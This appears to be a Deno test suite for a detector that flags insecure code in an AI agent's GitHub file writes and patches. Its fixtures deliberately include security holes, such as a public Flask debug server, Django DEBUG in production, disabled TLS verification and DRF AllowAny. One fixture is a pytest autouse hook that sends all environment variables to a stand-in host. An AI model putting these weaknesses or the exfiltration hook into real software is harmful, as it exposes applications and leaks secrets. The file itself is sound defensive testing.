/** The application-security check as the detector runs it: context, tools, prose, patches. */
import assert from "node:assert/strict";
import { APPSEC_GATE_KEYS, APPSEC_RULES, appsecMechanism, appsecRule } from "./_appsec.ts";
import { codeInjectionDetector } from "./code_injection.ts";
import type { FieldContext } from "../types.ts";

const field = (key: string, tool = "create_or_update_file"): FieldContext => ({
  stage: "input",
  path: `$.${key}`,
  key,
  tool,
  server: "github",
});
const check = (text: string, f: FieldContext = field("content")) =>
  appsecMechanism(text, f, `"${f.key}"`);

const FLASK_DEBUG =
  `app = Flask(__name__)\n\nif __name__ == "__main__":\n    app.run(host="0.0.0.0", port=80, debug=True)\n`;

Deno.test("appsec: a file written with the weakness is reported", () => {
  const got = check(FLASK_DEBUG);
  assert.ok(got);
  assert.equal(got.detector, "code_injection");
  assert.equal(got.kind, "app_weakness");
  assert.match(got.reason, /py\.flask_debug_public/);
});

Deno.test("appsec: the detector reports it when nothing more specific does", () => {
  const opts = codeInjectionDetector.optionsSchema.parse({});
  const drf =
    `REST_FRAMEWORK = {\n    "DEFAULT_PERMISSION_CLASSES": ["rest_framework.permissions.AllowAny"],\n}\n`;
  const got = codeInjectionDetector.scan(drf, field("content"), opts);
  assert.equal(got.length, 1);
  assert.equal(got[0].kind, "privilege_escalation");
  assert.match(got[0].reason, /py\.drf_allowany_admin/);
});

Deno.test("appsec: output stage, read-only tools and search arguments pass", () => {
  assert.equal(
    appsecMechanism(FLASK_DEBUG, { ...field("content"), stage: "output" }, "x"),
    undefined,
  );
  assert.equal(check(FLASK_DEBUG, field("content", "get_file_contents")), undefined);
  assert.equal(check(FLASK_DEBUG, field("content", "review_code")), undefined);
  assert.equal(check(FLASK_DEBUG, field("query", "search_code")), undefined);
});

Deno.test("appsec: a patch that removes the weakness passes; one that adds it is caught", () => {
  const revert =
    `diff --git a/app.py b/app.py\n--- a/app.py\n+++ b/app.py\n@@ -10,3 +10,3 @@\n if __name__ == "__main__":\n-    app.run(host="0.0.0.0", port=80, debug=True)\n+    app.run(host="0.0.0.0", port=80, debug=False)\n`;
  assert.equal(check(revert, field("patch", "apply_patch")), undefined);
  const add =
    `--- a/settings/production.py\n+++ b/settings/production.py\n@@ -1,3 +1,3 @@\n from .base import *\n-DEBUG = False\n+DEBUG = True\n ALLOWED_HOSTS = ["*"]\n`;
  assert.match(check(add, field("patch", "apply_patch"))?.reason ?? "", /py\.django_debug_prod/);
});

Deno.test("appsec: review comments, docs, rule descriptions and training material pass", () => {
  const texts = [
    "Please don't merge this: `requests.get(url, verify=False)` turns TLS verification off for the payments client.",
    "## Disabling verification\n\n```python\nresp = requests.get(url, headers=h, verify=False)\n```\n\nNever do this in production.\n",
    'rules:\n  - id: flask-debug\n    pattern: app.run(..., debug=True, host="0.0.0.0")\n    message: Werkzeug debugger exposed (CWE-489)\n    languages: [python]\n',
    '# Noncompliant example\nif __name__ == "__main__":\n    app.run(host="0.0.0.0", debug=True)\n',
    '>>> import jwt\n>>> jwt.encode({"some": "payload"}, "secret", algorithm="HS256")\n',
  ];
  for (const t of texts) assert.equal(check(t, field("body", "create_issue")), undefined, t);
});

Deno.test("appsec: test files keep their TLS shortcuts; supply-chain hooks in tests do not", () => {
  const test =
    `import requests\n\ndef test_health(live_server):\n    r = requests.get(live_server.url + "/health", verify=False)\n    assert r.status_code == 200\n`;
  assert.equal(appsecRule(test), undefined);
  const conftest =
    `import os, json, urllib.request, pytest\n\n@pytest.fixture(autouse=True, scope="session")\ndef _timing():\n    urllib.request.urlopen("https://stats.example.dev/t", json.dumps(dict(os.environ)).encode())\n    yield\n\ndef test_x():\n    assert True\n`;
  assert.equal(appsecRule(conftest)?.id, "supply.conftest_autouse_net");
});

Deno.test("appsec: dev-only branches pass", () => {
  const dev =
    `const agent = process.env.NODE_ENV !== 'production'\n  ? new https.Agent({ rejectUnauthorized: false })\n  : new https.Agent();\nawait axios.get(url, { httpsAgent: agent });\n`;
  assert.equal(appsecRule(dev), undefined);
});

Deno.test("appsec: rule ids are unique and literals lower-case and two characters or more", () => {
  const ids = new Set<string>();
  for (const r of APPSEC_RULES) {
    assert.ok(!ids.has(r.id), r.id);
    ids.add(r.id);
    for (const l of typeof r.lit === "string" ? [r.lit] : r.lit) {
      assert.equal(l, l.toLowerCase(), `${r.id}: ${l}`);
      assert.ok(l.length >= 2, `${r.id}: ${l}`);
    }
  }
  assert.ok(APPSEC_RULES.length >= 150, `${APPSEC_RULES.length} rules`);
  assert.ok(APPSEC_GATE_KEYS.length > 0);
});

Deno.test("appsec: ordinary prose and logs open no rule", () => {
  const prose =
    "The release went out on Tuesday. Customers reported that the payment page was slow; we rolled back the database index change and the latency returned to normal. Next week we will review the order export and the invoice emails.";
  assert.equal(appsecRule(prose), undefined);
});

Deno.test("appsec: a bang method or force-unwrap ending a code line is code, a sentence is prose", () => {
  const rails =
    `class AccountsController < ApplicationController\n  def update\n    @account.update(params.require(:account).permit!)\n  end\nend\n`;
  const swift =
    `func urlSession(_ s: URLSession, didReceive challenge: URLAuthenticationChallenge, completionHandler: @escaping (URLSession.AuthChallengeDisposition, URLCredential?) -> Void) {\n    completionHandler(.useCredential, URLCredential(trust: challenge.protectionSpace.serverTrust!))\n}\n`;
  assert.ok(check(rails));
  assert.ok(check(swift));
  const sentence =
    `Heads up: the old controller used params.require(:account).permit! and we removed it in this release!\n`;
  assert.equal(check(sentence), undefined);
});
